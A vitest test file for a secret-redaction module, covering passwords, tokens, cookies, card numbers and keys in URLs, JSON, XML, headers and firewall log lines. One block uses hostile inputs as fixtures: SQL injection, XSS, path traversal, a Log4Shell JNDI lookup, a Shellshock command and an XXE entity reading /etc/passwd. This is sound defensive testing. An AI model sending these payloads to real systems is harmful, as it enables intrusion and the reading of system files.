import { describe, expect, test } from 'vitest'

import { redact, redactMatch } from './redact.ts'

describe('secrets in text', () => {
  test.for([
    ['password=hunter2&q=1', 'password=[redacted]&q=1'],
    ['?user%5Bpassword%5D=hunter2&q=1', '?user%5Bpassword%5D=[redacted]&q=1'],
    ['q=1%26access_token%3Dhunter2', 'q=1%26access_token%3D[redacted]'],
    ['{"user":"ada","apiKey": "hunter2"}', '{"user":"ada","apiKey": [redacted]}'],
    ['client_secret=hunter2;code=4711', 'client_secret=[redacted];code=[redacted]'],
    ['/path;jsessionid=hunter2?q=1', '/path;jsessionid=[redacted]'],
    ['Authorization: Digest username="hunter2"', 'Authorization: [redacted]'],
    ['cookie: a=hunter2; b=hunter2\r\nHost: a', 'cookie: [redacted]\r\nHost: a'],
    ['Set-Cookie: a=hunter2', 'Set-Cookie: [redacted]'],
    ['X-Api-Key: hunter2', 'X-Api-Key: [redacted]'],
    ['it says Bearer hunter2hunter2.', 'it says Bearer [redacted]'],
    ['see eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln here', 'see [redacted] here'],
    ['card 4111 1111 1111 1111, 2030', 'card [redacted], 2030'],
    ['n=4111-1111-1111-1111', 'n=[redacted]'],
    ['n=4111%201111%201111%201111', 'n=[redacted]'],
    ['n=378282246310005', 'n=[redacted]'],
  ])('a possible secret is removed from a text: %s', ([given, left]) => {
    expect(redact(given as string)).toBe(left)
    expect(redactMatch(given as string)).toBe(left)
  })
})

describe('whole values', () => {
  test.for([
    ['{"password":"abc\\"SECRET"}', '{"password":[redacted]}'],
    ["{'password':'abc\\'SECRET'}", "{'password':[redacted]}"],
    ['"password":{"a":{"b":"}"},"c":"SECRET"},"q":1', '"password":[redacted],"q":1'],
    ['password: ["a", "SECRET"], q: 1', 'password: [redacted], q: 1'],
    ["'password' => 'SECRET'", "'password' => [redacted]"],
    ['password=ab;SECRET&q=1', 'password=[redacted]&q=1'],
    ['password=ab,SECRET&q=1', 'password=[redacted]&q=1'],
    ['password=ab"SECRET&q=1', 'password=[redacted]&q=1'],
    ['password=a{b}SECRET', 'password=[redacted]'],
    ['<a href="?token=SECRET">q</a>', '<a href="?token=[redacted]">q</a>'],
    ['{password:SECRET,user:ada}', '{password:[redacted],user:ada}'],
    ['{"name":"password","value":"SECRET"}', '{"name":"password","value":[redacted]}'],
    ['<input name="pw" type=text value="SECRET">', '<input name="pw" type=text value=[redacted]>'],
  ])('a value is removed as a whole: %s', ([given, left]) => {
    expect(redact(given as string)).toBe(left)
  })
})

describe('escaped secrets', () => {
  test.for([
    ['{\\"password\\":\\"SECRET\\"}', '{\\"password\\":[redacted]}'],
    ['{\\"password\\":\\"a\\\\\\"SECRET\\"}', '{\\"password\\":[redacted]}'],
    ['{\\u0022password\\u0022:\\u0022SECRET\\u0022}', '{\\u0022password\\u0022:[redacted]}'],
    ['{"p\\u0061ssword":"SECRET"}', '{"p\\u0061ssword":[redacted]}'],
    ['password%253DSECRET', 'password%253D[redacted]'],
    ['pass%77ord=SECRET&q=1', 'pass%77ord=[redacted]&q=1'],
    ['password%3Da%20SECRET%26q%3D1', 'password%3D[redacted]%26q%3D1'],
    [
      '%7B%22password%22%3A%22SECRET%22%2C%22q%22%3A%221%22%7D',
      '%7B%22password%22%3A[redacted]%2C%22q%22%3A%221%22%7D',
    ],
    ['&lt;password&gt;SECRET&lt;/password&gt;', '&lt;password&gt;[redacted]&lt;/password&gt;'],
  ])('a secret is detected behind escapes: %s', ([given, left]) => {
    expect(redact(given as string)).toBe(left)
  })
})

describe('secrets by position', () => {
  test.for([
    ['<password>SECRET</password><q>1</q>', '<password>[redacted]</password><q>1</q>'],
    ['<a:passwd b="1"><![CDATA[SECRET]]></a:passwd>', '<a:passwd b="1">[redacted]</a:passwd>'],
    [
      '<name>password</name><value><string>SECRET</string></value><q>',
      '<name>password</name><value>[redacted]</value><q>',
    ],
    [
      '<methodName>wp.getUsersBlogs</methodName><params><param><value>SECRET',
      '<methodName>wp.getUsersBlogs</[redacted]',
    ],
    [
      'form-data; name="password"\r\n\r\nSEC\r\nRET\r\n--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n1',
      'form-data; name="password"\r\n\r\n[redacted]\n--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n1',
    ],
    [
      'name="token"; filename="a"\r\nContent-Type: text/plain\r\n\r\nSECRET',
      'name="token"; filename="a"\r\nContent-Type: text/plain\r\n\r\n[redacted]',
    ],
    ['postgres://user:SECRET@db/q', 'postgres://user:[redacted]@db/q'],
    ['http://user:SEC@RET@host/x', 'http://user:[redacted]@host/x'],
    ['redis://:SECRET@host:6379', 'redis://:[redacted]@host:6379'],
    ['PHPSESSID=SECRET', 'PHPSESSID=[redacted]'],
    ['SESSID=SECRET', 'SESSID=[redacted]'],
    ['sid=SECRET', 'sid=[redacted]'],
    ['csrf=SECRET', 'csrf=[redacted]'],
    [
      'user_pass=SECRET&pass1=SECRET&pw=SECRET',
      'user_pass=[redacted]&pass1=[redacted]&pw=[redacted]',
    ],
  ])('a secret is detected by its position: %s', ([given, left]) => {
    expect(redact(given as string)).toBe(left)
  })
})

describe('secrets by format', () => {
  test.for([
    ['see ghp_0123456789abcdefABCDEF here', 'see [redacted] here'],
    ['see github_pat_0123456789_abcdef', 'see [redacted]'],
    ['see AKIAIOSFODNN7EXAMPLE', 'see [redacted]'],
    ['cut off eyJhbGciOiJIUzI1NiJ9.eyJzdW', 'cut off [redacted]'],
    ['n=4111.1111.1111.1111', 'n=[redacted]'],
    [
      '-----BEGIN RSA PRIVATE KEY-----\nSECRET\n-----END RSA PRIVATE KEY-----',
      '-----BEGIN RSA PRIVATE KEY-----[redacted]-----END RSA PRIVATE KEY-----',
    ],
    ['-----BEGIN PRIVATE KEY-----\\nSECRET', '-----BEGIN PRIVATE KEY-----[redacted]'],
  ])('a secret is detected by its format: %s', ([given, left]) => {
    expect(redact(given as string)).toBe(left)
  })
})

describe('text without secrets', () => {
  test.for([
    "id=1' UNION SELECT name FROM users--",
    '/wp-admin/setup-config.php?step=1',
    'order 4111111111111112',
    '17723554928712503417723554928712503',
    'Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101',
    'Matched Data: ../ found within ARGS:name: ../../etc/passwd',
    'Matched Data: <script found within ARGS:q: <script>alert(document.domain)</script>',
    'q=1%27%20UNION%20SELECT%20NULL,NULL,name%20FROM%20users--',
    '{"q":"\\u003cscript\\u003ealert(1)"}',
    '${jndi:ldap://192.0.2.1:1389/a}',
    'http://192.0.2.1:8080/a?mail=ada',
    '() { :;}; /bin/bash -c "cat /etc/passwd"',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  ])('text without secrets is kept: %s', (text) => {
    expect(redactMatch(text)).toBe(text)
  })
})

describe('secret variables', () => {
  test.for([
    'Matched Data: hunter2 found within ARGS:password: hunter2 and more',
    'Matched Data: hunter2 found within ARGS:new password: hunter2',
    'Matched Data: hunter2 found within REQUEST_COOKIES:visit: hunter2',
    'Matched Data: hunter2 found within REQUEST_HEADERS:X-Api-Key: hunter2',
    'Matched Data: hunter2 found within ARGS:json.user.token: a found within ARGS:q: hunter2',
    "Matched \"Operator `Rx' with parameter `or' against variable `ARGS:pass' (Value: `hunter2' )",
  ])('a match in a secret variable is removed as a whole: %s', (text) => {
    expect(redactMatch(text)).not.toContain('hunter2')
    expect(redactMatch(text)).toContain('[redacted]')
  })
})

test('the contents of a secret variable are removed, whatever their length', () => {
  const text = `Matched Data: ${'SECRET '.repeat(5_000)}found within ARGS:password: SECRET`
  expect(redactMatch(text)).not.toContain('SECRET')
})

/**
 * Long enough that retrying at every character, as the search once did, takes minutes: the test's timeout is the limit.
 */
const LONG = 250_000

describe('slow texts', () => {
  test.for([
    'a',
    '%3',
    '=',
    '[',
    'a%3D',
    '"',
    'eyJ',
    "against variable `'",
    'against variable `',
    'found within A:',
    '1 ',
    ' ',
    '\\"',
    '%25253D',
    'password=',
    'password={',
    'password=";a',
    '<password>',
    '<a ',
    'name="a"\n',
    'name="a" ',
    '//a:',
    '-----BEGIN ',
    'bearer ',
    'cookie:\n',
    'AKIA',
    'basic+',
    'basic a+',
    'value=',
    'value="\\"',
    `value="'`,
    'value=a ',
    'name=a\n',
    "name='a';",
    '<a name="b" ',
    '<a name="b">',
    '<param name="pw">',
    '<pw><pw></pw>',
    '<key>a</key>',
    'Matched Data: a',
    'Matched Data: a found within ',
    'Match of "',
    'found within XML:/',
    'found within REQUEST_BODY: ',
    '&a',
    '.1',
    '[]',
  ])('a text designed to be slow is scanned in one pass: %s', (part) => {
    const text = `${part.repeat(LONG / part.length)}=`
    expect(redact(text).length).toBeGreaterThan(0)
    expect(redactMatch(text).length).toBeGreaterThan(0)
  })
})
